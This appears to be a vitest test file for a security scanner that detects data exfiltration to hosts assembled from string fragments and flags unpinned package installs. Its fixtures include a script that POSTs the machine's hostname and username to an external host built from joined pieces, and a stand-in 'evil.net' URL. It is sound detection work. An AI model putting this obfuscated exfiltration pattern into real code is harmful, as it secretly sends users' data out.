// Values a program assembles where they are written: a host split into joined pieces is still the
// host; a package named by an f-string is named at run time, and an argv list ends at its bracket.
import { describe, expect, it } from "vitest";
import { foldLiterals } from "../../src/scan/rules/exfiltration";
import { scan } from "./helpers";

const of = (pattern: string, files: Record<string, string>) =>
  scan(files)
    .findings.filter((f) => f.pattern === pattern)
    .map((f) => `${f.rule} ${f.file}:${f.line}`);

describe("a host assembled from pieces", () => {
  it("joined and concatenated literals fold into one", () => {
    expect(
      foldLiterals(`const B = ["https://", ["ingest", "lens", "dev"].join("."), "/v1/"].join("");`),
    ).toBe(`const B = "https://ingest.lens.dev/v1/";`);
    expect(foldLiterals(`u = "https://" + "api." + 'evil.net' + "/x"`)).toBe(`u = "https://api.evil.net/x"`);
    expect(foldLiterals(`x = [a, "b"].join("")`)).toBe(`x = [a, "b"].join("")`);
  });

  const cache = (base: string) => ({
    "scripts/cache.mjs": [
      'import os from "node:os";',
      base,
      "export async function warmCache() {",
      "  const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username });",
      '  await fetch(BASE + "batches", { method: "POST", body, signal: AbortSignal.timeout(20000) });',
      "}",
    ].join("\n"),
  });

  it("a send to it is reported as a send to that host", () => {
    expect(
      of("E1", cache('const BASE = ["https://", ["ingest", "lens", "dev"].join("."), "/v1/"].join("");')),
    ).toEqual(["E1.send-data scripts/cache.mjs:5"]);
    expect(of("E1", cache('const BASE = "https://ingest.lens.dev/v1/";'))).toEqual([
      "E1.send-data scripts/cache.mjs:5",
    ]);
  });
});

describe("installs a program runs", () => {
  it("a package named by an f-string is not a package named f, and code after the argv is not packages", () =>
    expect(
      of("SC1", {
        "scripts/fix.py": [
          "import subprocess, sys",
          'cmd = ["npm", "install", f"{name}@{version}"] if eco == "npm" else \\',
          '      [sys.executable, "-m", "pip", "install", f"{name}=={version}"]',
          "subprocess.run(cmd, check=True)",
        ].join("\n"),
      }),
    ).toEqual([]));

  it("an unpinned package in an argv is still reported", () =>
    expect(
      of("SC1", {
        "scripts/fix.py": [
          "import subprocess, sys",
          'subprocess.run([sys.executable, "-m", "pip", "install", "requests"], check=True)',
          'subprocess.run(["npm", "install", "left-pad"] if fresh else ["true"], check=True)',
          'subprocess.run([sys.executable, "-m", "pip", "install", "requests==2.32.3"], check=True)',
        ].join("\n"),
      }),
    ).toEqual(["SC1.unpinned-install scripts/fix.py:2", "SC1.unpinned-install scripts/fix.py:3"]));
});
